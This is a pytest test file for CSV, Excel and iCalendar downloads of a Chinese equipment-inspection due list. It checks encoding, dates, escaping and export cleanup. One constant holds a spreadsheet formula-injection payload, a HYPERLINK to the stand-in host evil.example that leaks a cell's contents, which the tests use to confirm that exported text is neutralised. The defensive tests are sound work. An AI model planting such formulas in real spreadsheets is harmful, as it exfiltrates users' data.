"""Due-list downloads: every format is read back the way its consumer reads it.

CSV through the csv module as Excel would decode it (utf-8-sig), XLSX through openpyxl,
iCalendar by unfolding and unescaping as RFC 5545 prescribes. Nothing is compared with a
stored blob, so a harmless change of layout does not break a test.
"""

from __future__ import annotations

import ast
import asyncio
import codecs
import csv
import gc
import io
import re
import sys
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from equipment.api import exports
from equipment.api.controllers import render
from equipment.api.exports import (
    COLUMNS,
    CSV_MEDIA_TYPE,
    ICS_MEDIA_TYPE,
    KIND_ZH,
    STATE_ZH,
    XLSX_MEDIA_TYPE,
    to_csv,
    to_icalendar,
    to_xlsx,
)
from equipment.domain.reminders import DueState, reminder_on
from equipment.domain.rules.model import DUE_KINDS

GENERATED_AT = datetime(2025, 6, 15, 8, 30, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def due_row(**overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "code": "31104206062021030001",
        "category": "3110",
        "category_name": "曳引驱动乘客电梯",
        "kind": "periodic",
        "due_on": date(2025, 7, 10),
        "reminder_on": date(2025, 6, 10),
        "state": "reminder",
        "district_code": "420606",
        "district_name": "樊城区",
        "address": "湖北省襄阳市樊城区人民路18号华联商厦3号电梯",
        "user_unit_name": "襄阳华联商厦有限公司",
        "maintenance_company_name": "襄阳通达电梯工程有限公司",
        "rule_key": "lift.periodic",
        "source": "TSG T7001-2023 定期检验周期",
        "explanation": "上次定期检验2024-07-10合格，检验周期1年",
        "equipment_id": 42,
    }
    row.update(overrides)
    return row


def column_index(key: str) -> int:
    return [c.key for c in COLUMNS].index(key)


# ---------------------------------------------------------------------------------------
# Columns and translations


def test_every_due_kind_and_state_has_a_chinese_name() -> None:
    assert set(KIND_ZH) == set(DUE_KINDS)
    assert set(STATE_ZH) == {s.value for s in DueState}


def test_columns_have_unique_keys_and_both_headers() -> None:
    keys = [c.key for c in COLUMNS]
    assert len(keys) == len(set(keys))
    assert keys[:2] == ["code", "category"]
    assert all(c.en and c.zh and c.width > 0 for c in COLUMNS)
    assert "equipment_id" not in keys and "rule_key" not in keys
    assert keys.index("due_on") < keys.index("address")


def test_media_types() -> None:
    assert CSV_MEDIA_TYPE == "text/csv"  # Litestar adds the charset
    assert ICS_MEDIA_TYPE == "text/calendar"
    assert XLSX_MEDIA_TYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_the_module_imports_no_framework_orm_or_broker() -> None:
    tree = ast.parse(Path(exports.__file__).read_text(encoding="utf-8"))
    imported: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert not imported & {"litestar", "piccolo", "paho", "asyncpg", "msgspec"}


# ---------------------------------------------------------------------------------------
# CSV


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_starts_with_a_bom_and_ends_lines_with_crlf() -> None:
    data = to_csv([due_row()])
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(b"\r\n") == 2
    assert b"\n" not in data.replace(b"\r\n", b"")


@pytest.mark.parametrize(
    ("lang", "first", "due"),
    [("zh", "注册代码/设备代码", "下次检验日期"), ("en", "Code", "Due on")],
)
def test_csv_header_is_in_the_chosen_language(lang: exports.Lang, first: str, due: str) -> None:
    header = read_csv(to_csv([due_row()], lang=lang))[0]
    assert header == [c.zh if lang == "zh" else c.en for c in COLUMNS]
    assert header[0] == first
    assert header[column_index("due_on")] == due


def test_csv_round_trips_chinese_text_and_translates_kind_and_state_for_zh() -> None:
    row = due_row(kind="end_of_service_life", state="overdue")
    line = read_csv(to_csv([row]))[1]
    for key in ("category_name", "district_name", "address", "user_unit_name", "source"):
        assert line[column_index(key)] == row[key]
    assert line[column_index("code")] == "31104206062021030001"
    assert line[column_index("kind")] == "设计使用年限到期"
    assert line[column_index("state")] == "已超期"


def test_csv_in_english_keeps_the_api_codes_for_kind_and_state() -> None:
    line = read_csv(to_csv([due_row(kind="self_test", state="upcoming")], lang="en"))[1]
    assert line[column_index("kind")] == "self_test"
    assert line[column_index("state")] == "upcoming"
    assert line[column_index("address")] == due_row()["address"]


def test_csv_dates_are_iso() -> None:
    line = read_csv(to_csv([due_row(due_on=date(2026, 1, 5), reminder_on=date(2025, 12, 5))]))[1]
    assert line[column_index("due_on")] == "2026-01-05"
    assert line[column_index("reminder_on")] == "2025-12-05"


def test_csv_missing_values_are_empty_cells() -> None:
    row = due_row(district_name=None, user_unit_name=None, maintenance_company_name=None)
    line = read_csv(to_csv([row]))[1]
    assert len(line) == len(COLUMNS)
    assert line[column_index("district_name")] == ""
    assert line[column_index("user_unit_name")] == ""
    assert line[column_index("maintenance_company_name")] == ""


@pytest.mark.parametrize("text", [FORMULA, "+86 710 1234567", "-1层 设备间", "@SUM(A1)", "\t=1+1"])
def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(text: str) -> None:
    row = due_row(address=text, user_unit_name=text, explanation=text)
    line = read_csv(to_csv([row]))[1]
    for key in ("address", "user_unit_name", "explanation"):
        assert line[column_index(key)] == "'" + text


def test_csv_leaves_ordinary_text_and_newlines_alone() -> None:
    row = due_row(explanation='第一行，含逗号\n第二行 "引号"', address="人民路1号 = 旧址")
    line = read_csv(to_csv([row]))[1]
    assert line[column_index("explanation")] == row["explanation"]
    assert line[column_index("address")] == row["address"]


def test_csv_of_no_rows_is_just_the_header() -> None:
    for lang in ("zh", "en"):
        assert read_csv(to_csv([], lang=lang)) == [[c.header(lang) for c in COLUMNS]]


def test_csv_accepts_a_generator() -> None:
    rows = (due_row(equipment_id=i, code=f"3110420606202103{i:04d}") for i in range(3))
    assert len(read_csv(to_csv(rows))) == 4


# No deadline: up to 700 rows take a few tens of ms, past hypothesis's 200 ms on a loaded
# machine, and the property is about the seams, not speed.
@settings(deadline=None)
@given(count=st.integers(min_value=0, max_value=700))
def test_csv_of_many_rows_reads_back_every_row_once_in_order(count: int) -> None:
    # Rows are encoded a few hundred at a time: no row may be lost or doubled at a seam,
    # and only the file's start carries the byte-order mark.
    codes = [f"3110420606202103{i:04d}" for i in range(count)]
    data = to_csv(due_row(code=code, address="樊城区人民路") for code in codes)
    assert data.count(codecs.BOM_UTF8) == 1
    lines = read_csv(data)
    assert [line[column_index("code")] for line in lines[1:]] == codes


# ---------------------------------------------------------------------------------------
# Excel


def read_xlsx(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def cell(sheet: Any, row: int, key: str) -> Any:
    return sheet.cell(row=row, column=column_index(key) + 1)


@pytest.mark.parametrize(("lang", "title"), [("zh", "应检设备"), ("en", "Due")])
def test_xlsx_has_one_sheet_named_for_the_language(lang: exports.Lang, title: str) -> None:
    sheet = read_xlsx(to_xlsx([due_row()], lang=lang))
    assert sheet.title == title
    header = [c.value for c in sheet[1]]
    assert header == [c.header(lang) for c in COLUMNS]


def test_xlsx_header_is_bold_frozen_and_columns_have_widths() -> None:
    sheet = read_xlsx(to_xlsx([due_row()]))
    assert all(c.font.bold for c in sheet[1])
    assert not cell(sheet, 2, "address").font.bold
    assert sheet.freeze_panes == "A2"
    widths = [
        sheet.column_dimensions[get_column_letter(i)].width for i in range(1, len(COLUMNS) + 1)
    ]
    assert widths == [c.width for c in COLUMNS]


def test_xlsx_round_trips_chinese_text_and_translates_kind_and_state() -> None:
    row = due_row(kind="annual_check", state="reminder", category_name="固定式压力容器")
    sheet = read_xlsx(to_xlsx([row]))
    for key in ("category_name", "address", "user_unit_name", "source", "explanation"):
        assert cell(sheet, 2, key).value == row[key]
    # A code stays text: as a number Excel would show 3.11042E+19 and lose digits.
    assert cell(sheet, 2, "code").value == "31104206062021030001"
    assert cell(sheet, 2, "kind").value == "年度检查"
    assert cell(sheet, 2, "state").value == "应申报检验"
    assert cell(sheet, 2, "district_name").value == "樊城区"


def test_xlsx_in_english_keeps_the_api_codes() -> None:
    sheet = read_xlsx(to_xlsx([due_row(kind="hydrostatic", state="overdue")], lang="en"))
    assert cell(sheet, 2, "kind").value == "hydrostatic"
    assert cell(sheet, 2, "state").value == "overdue"


def test_xlsx_dates_are_real_dates_with_an_iso_format() -> None:
    sheet = read_xlsx(to_xlsx([due_row(due_on=date(2026, 2, 28), reminder_on=date(2026, 1, 28))]))
    for key, expected in (("due_on", date(2026, 2, 28)), ("reminder_on", date(2026, 1, 28))):
        value = cell(sheet, 2, key)
        assert value.is_date
        assert isinstance(value.value, datetime)
        assert value.value.date() == expected
        assert value.number_format == "yyyy-mm-dd"


def test_xlsx_missing_values_are_empty_cells() -> None:
    sheet = read_xlsx(to_xlsx([due_row(district_name=None, maintenance_company_name=None)]))
    assert cell(sheet, 2, "district_name").value is None
    assert cell(sheet, 2, "maintenance_company_name").value is None


@pytest.mark.parametrize("text", [FORMULA, "=1+1", "+1", "-1层", "@SUM(A1)"])
def test_xlsx_never_writes_user_text_as_a_formula(text: str) -> None:
    sheet = read_xlsx(to_xlsx([due_row(address=text, maintenance_company_name=text)]))
    for key in ("address", "maintenance_company_name"):
        value = cell(sheet, 2, key)
        assert value.data_type != "f"
        assert value.value == "'" + text


def test_xlsx_drops_control_characters_xml_cannot_hold_before_the_formula_guard() -> None:
    sheet = read_xlsx(to_xlsx([due_row(address="人民路\x00\x0b1号", explanation="\x01=1+1")]))
    assert cell(sheet, 2, "address").value == "人民路1号"
    assert cell(sheet, 2, "explanation").value == "'=1+1"
    assert cell(sheet, 2, "explanation").data_type != "f"


def test_xlsx_of_no_rows_is_just_the_header() -> None:
    sheet = read_xlsx(to_xlsx([]))
    assert sheet.max_row == 1


def test_xlsx_streams_two_thousand_rows() -> None:
    def rows() -> Iterator[dict[str, Any]]:
        for i in range(2000):
            yield due_row(
                equipment_id=i,
                code=f"3110420606202103{i:04d}",
                due_on=date(2025, 1, 1) + timedelta(days=i),
                address=f"樊城区人民路{i}号",
            )

    sheet = read_xlsx(to_xlsx(rows()))
    assert sheet.max_row == 2001
    assert cell(sheet, 2001, "code").value == "31104206062021031999"
    assert cell(sheet, 2001, "address").value == "樊城区人民路1999号"
    assert cell(sheet, 2001, "due_on").value.date() == date(2025, 1, 1) + timedelta(days=1999)


# ---------------------------------------------------------------------------------------
# iCalendar


def physical_lines(text: str) -> list[bytes]:
    """The octet lines as a client reads them off the wire; every one must end in CRLF."""
    data = text.encode("utf-8")
    assert data.endswith(b"\r\n")
    lines = data.split(b"\r\n")
    assert lines.pop() == b""
    return lines


def unfold(text: str) -> list[str]:
    # Split on CRLF only: str.splitlines() would also split on U+2028 and friends.
    return text.replace("\r\n ", "").removesuffix("\r\n").split("\r\n")


def unescape(value: str) -> str:
    return re.sub(r"\\(.)", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def components(text: str) -> list[dict[str, Any]]:
    """VEVENTs as {property: raw value}, each with its VALARMs under "alarms"."""
    events: list[dict[str, Any]] = []
    stack: list[dict[str, Any]] = []
    for line in unfold(text):
        name, _, value = line.partition(":")
        if name == "BEGIN" and value in ("VEVENT", "VALARM"):
            stack.append({"alarms": []})
        elif name == "END" and value in ("VEVENT", "VALARM"):
            done = stack.pop()
            (stack[-1]["alarms"] if value == "VALARM" else events).append(done)
        elif stack:
            assert name not in stack[-1], f"{name} twice in one component"
            stack[-1][name] = value
    assert not stack
    return events


def calendar(rows: list[dict[str, Any]], **kwargs: Any) -> str:
    kwargs.setdefault("calendar_name", "樊城区应检设备")
    kwargs.setdefault("generated_at", GENERATED_AT)
    return to_icalendar(rows, **kwargs)


LONG_EXPLANATION = (
    "上次定期检验于2024年7月10日完成，结论为合格；依据TSG T7001-2023，"
    "使用年限超过15年的乘客电梯检验周期为1年，故下次检验日期为2025年7月10日。\n"
    "使用单位应当在检验有效期届满前1个月向检验机构提出定期检验申请。"
)


def test_icalendar_has_the_calendar_header() -> None:
    text = calendar([due_row()], calendar_name="樊城区, 应检; 设备")
    lines = unfold(text)
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-1] == "END:VCALENDAR"
    assert "VERSION:2.0" in lines
    assert "PRODID:-//sereg//due dates//ZH" in lines
    assert "X-WR-CALNAME:樊城区\\, 应检\\; 设备" in lines


def test_icalendar_lines_are_at_most_75_octets_and_end_with_crlf() -> None:
    text = calendar([due_row(explanation=LONG_EXPLANATION * 3, address="樊城区" * 40)])
    lines = physical_lines(text)
    assert any(line.startswith(b" ") for line in lines), "the long text must have been folded"
    for line in lines:
        assert len(line) <= 75
        line.decode("utf-8")  # a break inside a character would fail here
        assert b"\r" not in line and b"\n" not in line


def test_icalendar_unfolding_restores_the_long_chinese_description() -> None:
    row = due_row(explanation=LONG_EXPLANATION)
    [event] = components(calendar([row]))
    description = unescape(event["DESCRIPTION"])
    assert description.endswith("说明：" + LONG_EXPLANATION)
    assert f"使用地点：{row['address']}\n" in description
    assert "状态：应申报检验" in description
    assert f"依据：{row['source']}" in description
    assert unescape(event["LOCATION"]) == row["address"]


def test_icalendar_escapes_backslash_semicolon_comma_and_newlines() -> None:
    text = "A\\B;C,D\nE\r\nF\rG"
    [event] = components(calendar([due_row(address=text)]))
    assert event["LOCATION"] == "A\\\\B\\;C\\,D\\nE\\nF\\nG"
    assert unescape(event["LOCATION"]) == "A\\B;C,D\nE\nF\nG"


def test_icalendar_drops_control_characters_but_keeps_tabs() -> None:
    [event] = components(calendar([due_row(address="人民路\x00\x1b1号\t北门\x7f")]))
    assert unescape(event["LOCATION"]) == "人民路1号\t北门"


def test_icalendar_never_folds_inside_an_escape_pair() -> None:
    text = calendar([due_row(address=",;\\" * 60, explanation="\n" * 50)])
    for line in physical_lines(text):
        trailing = len(line) - len(line.rstrip(b"\\"))
        assert trailing % 2 == 0, line


@pytest.mark.parametrize(
    ("due_on", "start", "end"),
    [
        (date(2025, 7, 10), "20250710", "20250711"),
        (date(2025, 12, 31), "20251231", "20260101"),
        (date(2028, 2, 28), "20280228", "20280229"),
    ],
)
def test_icalendar_event_is_all_day_on_the_due_date(due_on: date, start: str, end: str) -> None:
    [event] = components(calendar([due_row(due_on=due_on, reminder_on=reminder_on(due_on))]))
    assert event["DTSTART;VALUE=DATE"] == start
    assert event["DTEND;VALUE=DATE"] == end


def test_icalendar_has_one_event_per_row_with_a_stable_uid() -> None:
    rows = [
        due_row(equipment_id=1, kind="periodic"),
        due_row(equipment_id=1, kind="maintenance"),
        due_row(equipment_id=2, kind="periodic", code="31104206062021030002"),
    ]
    text = calendar(rows)
    events = components(text)
    assert len(events) == 3 == text.count("BEGIN:VEVENT\r\n") == text.count("END:VEVENT\r\n")
    assert [e["UID"] for e in events] == [
        "1-periodic@sereg",
        "1-maintenance@sereg",
        "2-periodic@sereg",
    ]
    assert unescape(events[1]["SUMMARY"]) == "曳引驱动乘客电梯 31104206062021030001 维护保养到期"


def test_icalendar_dtstamp_is_generated_at_in_utc() -> None:
    beijing = timezone(timedelta(hours=8))
    [event] = components(
        calendar([due_row()], generated_at=datetime(2025, 6, 15, 8, 0, 5, tzinfo=beijing))
    )
    assert event["DTSTAMP"] == "20250615T000005Z"


def test_icalendar_refuses_a_naive_generated_at() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        calendar([due_row()], generated_at=datetime(2025, 6, 15, 8, 0))


@pytest.mark.parametrize(
    "due_on",
    [date(2025, 7, 10), date(2025, 3, 31), date(2025, 3, 1), date(2024, 3, 30), date(2025, 1, 15)],
)
def test_icalendar_alarm_fires_on_the_last_day_to_apply(due_on: date) -> None:
    # One calendar month, not 30 days: for 31 March the deadline is 28 February (31 days
    # earlier), and a -P30D alarm would come a day too late.
    [event] = components(calendar([due_row(due_on=due_on, reminder_on=reminder_on(due_on))]))
    [alarm] = event["alarms"]
    assert alarm["ACTION"] == "DISPLAY"
    assert alarm["DESCRIPTION"]
    days = re.fullmatch(r"-P(\d+)D", alarm["TRIGGER"])
    assert days is not None
    assert due_on - timedelta(days=int(days.group(1))) == reminder_on(due_on)


def test_icalendar_of_no_rows_is_an_empty_calendar() -> None:
    text = calendar([])
    assert components(text) == []
    assert unfold(text)[0] == "BEGIN:VCALENDAR" and unfold(text)[-1] == "END:VCALENDAR"


# Any text a user could type: every script, emoji (4 octets, plus a joiner and a combining
# accent so that sequences form) and the characters iCalendar escapes. Control characters
# other than tab and newline are dropped by design (tested above), so they are left out.
USER_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(exclude_categories=("Cs", "Cc")),
        st.sampled_from(
            ["\n", "\t", "\\", ";", ",", ":", "樊", "😀", "👨", "\u200d", "👧", "\u0301", " "]
        ),
    ),
    min_size=1,
    max_size=300,
)


@given(address=USER_TEXT, explanation=USER_TEXT)
def test_icalendar_folding_and_escaping_round_trip_any_text(address: str, explanation: str) -> None:
    text = calendar([due_row(address=address, explanation=explanation)])
    for line in physical_lines(text):
        assert len(line) <= 75
        line.decode("utf-8")
    [event] = components(text)
    assert unescape(event["LOCATION"]) == address
    description = unescape(event["DESCRIPTION"])
    assert description.endswith("\n说明：" + explanation)
    assert f"\n使用地点：{address}\n" in description


@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=200))
def test_icalendar_drops_exactly_the_control_characters_but_tab_and_newline(text: str) -> None:
    expected = "".join(
        ch for ch in re.sub(r"\r\n|\r|\n", "\n", text)
        if ch in "\n\t" or unicodedata.category(ch) != "Cc"
    )  # fmt: skip
    escaped = exports._escape_text(text)
    assert unescape(escaped) == expected


# ---------------------------------------------------------------------------------------
# An export given up: openpyxl's write-only writer runs generators that only saving ends;
# one left open raises "I/O operation on closed file" when the collector finds it.


@pytest.fixture
def unraisable(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    caught: list[Any] = []
    monkeypatch.setattr(sys, "unraisablehook", caught.append)
    return caught


def test_an_xlsx_export_made_and_never_used_starts_no_writer(unraisable: list[Any]):
    # The page makes the export before the due list's permission check refuses a role.
    exports.XlsxExport()
    gc.collect()
    assert unraisable == []


def test_an_xlsx_export_given_up_half_way_is_closed_cleanly(unraisable: list[Any]):
    export = exports.XlsxExport()
    export.add(due_row())
    export.close()
    export.close()  # twice is harmless
    del export
    gc.collect()
    assert unraisable == []


async def test_a_download_cancelled_while_rendering_closes_its_export(unraisable: list[Any]):
    class Rows(list[dict[str, Any]]):
        def __iter__(self) -> Iterator[dict[str, Any]]:
            yield self[0]
            raise asyncio.CancelledError  # the client went away between two rows

    with pytest.raises(asyncio.CancelledError):
        await render(exports.XlsxExport, Rows([due_row(), due_row()]))
    gc.collect()
    assert unraisable == []
